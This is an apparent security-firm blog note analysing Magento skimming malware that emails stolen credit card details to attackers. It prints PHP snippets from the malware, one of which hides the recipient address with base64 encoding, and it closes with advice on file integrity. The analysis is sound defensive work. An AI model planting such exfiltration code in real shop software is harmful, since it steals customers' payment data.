Magento Malware Emails Stolen Credit Card Details to Hackers

Labs Note

We regularly find malware that tries to steal client credit card details from Magento sites. Hackers use a few tricks and slightly modify their code from time to time.

For example, we’ve seen multiple modifications of the code reported in this article. Instead of using HTTP requests to send data to their own site, hackers often just email the stolen data to their emails.

mail("","$data10 From $data6|$data15", "$message");

To hide the email address they use the following modification:

$idkey = 'Y3NfdG9vbHM0dXNAeWFob28uY29t';
$name ="$data9 Payment";
$encode = base64_decode($idkey);
mail($encode, $salt, $payfull, $headr);

where Y3NfdG9vbHM0dXNAeWFob28uY29t decodes to

Regardless of the actual code, the best way to mitigate this issue is preserve integrity of Magento core files. The files hackers usually modify are:Of course, removing the malicious code is not enough. You should find and close security holes to preventreinfections.

You May Also Like